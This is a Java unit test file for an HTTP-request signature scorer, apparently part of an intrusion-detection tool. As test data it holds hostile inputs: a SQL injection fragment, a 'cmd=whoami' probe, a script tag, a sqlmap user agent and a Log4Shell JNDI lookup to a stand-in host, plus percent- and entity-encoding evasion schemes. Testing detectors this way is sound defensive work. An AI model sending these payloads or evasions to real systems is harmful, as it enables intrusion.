package io.streamwarden.detectors.signature;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

class SignatureScorerTest {
    private static final int FOUND = 50;

    private final SignatureScorer scorer = new SignatureScorer();

    @ParameterizedTest
    @EnumSource
    void findsTheAttacksOfEachFamily(SignatureFamily family) {
        List<Example> attacks = Example.of(family.id() + ".txt");

        List<String> missed = attacks.stream()
                .filter(attack -> attack.scoredBy(scorer).of(family) < FOUND)
                .map(this::scored)
                .toList();

        assertThat(attacks).hasSizeGreaterThan(20);
        assertThat(missed).isEmpty();
    }

    @Test
    void staysQuietOnOrdinaryRequests() {
        List<Example> requests = Example.of("benign.txt");

        List<String> accused = requests.stream()
                .filter(request -> request.scoredBy(scorer).highest() >= FOUND)
                .map(this::scored)
                .toList();

        assertThat(requests).hasSizeGreaterThan(150);
        assertThat(accused).isEmpty();
    }

    private String scored(Example example) {
        return example.scoredBy(scorer) + " " + example;
    }

    static List<UnaryOperator<String>> disguises() {
        return List.of(
                text -> everyCharacter(text, "%%%02x"),
                text -> everyCharacter(text, "%%25%02x"),
                text -> everyCharacter(text, "%%2525%02X"),
                text -> everyCharacter(text, "%%26%%23%d%%3b"),
                text -> everyCharacter(text, "%%5cu%04x"),
                text -> Example.encoded(text.toUpperCase(Locale.ROOT)));
    }

    @ParameterizedTest
    @MethodSource("disguises")
    void findsThemUnderDisguise(UnaryOperator<String> disguise) {
        for (SignatureFamily family : SignatureFamily.values()) {
            List<String> missed = Example.of(family.id() + ".txt").stream()
                    .filter(SignatureScorerTest::isPlain)
                    .map(attack -> "a=" + disguise.apply(attack.text()))
                    .filter(query -> scorer.score("/x", query, null, null, null, null, "GET")
                                    .of(family)
                            < FOUND)
                    .toList();

            assertThat(missed).as(family.id()).isEmpty();
        }
    }

    private static boolean isPlain(Example attack) {
        return attack.place().equals("value")
                && attack.text().chars().allMatch(c -> c < 128 && c != '%' && c != '\\' && c != '&');
    }

    private static String everyCharacter(String text, String format) {
        StringBuilder result = new StringBuilder();
        text.chars().forEach(c -> result.append(String.format(Locale.ROOT, format, c)));
        return result.toString();
    }

    @Test
    void addsEvidenceUpWithinAValueButNotAcrossValues() {
        var together = scorer.score("/", "a=1%20union%20select%201,2--", null, null, null, null, "GET");
        var apart = scorer.score("/", "a=union&b=select&c=1,2&d=--", null, null, null, null, "GET");

        assertThat(together.of(SignatureFamily.SQL_INJECTION)).isEqualTo(100);
        assertThat(apart.of(SignatureFamily.SQL_INJECTION)).isLessThan(FOUND);
    }

    @Test
    void takesAParameterNamedLikeACommandForWhatItSays() {
        var named = scorer.score("/a.php", "cmd=whoami", null, null, null, null, "GET");
        var other = scorer.score("/a.php", "title=whoami", null, null, null, null, "GET");

        assertThat(named.of(SignatureFamily.COMMAND_INJECTION)).isGreaterThanOrEqualTo(FOUND);
        assertThat(other.isEmpty()).isTrue();
    }

    @Test
    void remembersAUserAgentWithoutMixingRequestsUp() {
        scorer.score("/", "q=%3Cscript%3E", "sqlmap/1.7", null, null, null, "GET");

        var again = scorer.score("/", null, "sqlmap/1.7", null, null, null, "GET");

        assertThat(again.of(SignatureFamily.SCANNER)).isEqualTo(100);
        assertThat(again.of(SignatureFamily.XSS)).isZero();
    }

    @Test
    void looksAtEveryHeaderButThoseItIsGivenApart() {
        var lookup = "${jndi:ldap://evil.example}";

        var custom = scorer.score("/", null, null, null, Map.of("x-api-version", lookup), null, "GET");
        var duplicate = scorer.score("/", null, null, null, Map.of("user-agent", lookup), null, "GET");

        assertThat(custom.of(SignatureFamily.LOG4SHELL)).isEqualTo(100);
        assertThat(duplicate.isEmpty()).isTrue();
    }

    @Test
    void costsNoObjectWhenNothingIsFound() {
        var scores = scorer.score("/a/b", "c=d", "curl/8.5.0", "https://a.example/", Map.of(), "e=f", "GET");

        assertThat(scores).isSameAs(SignatureScores.NONE);
    }
}
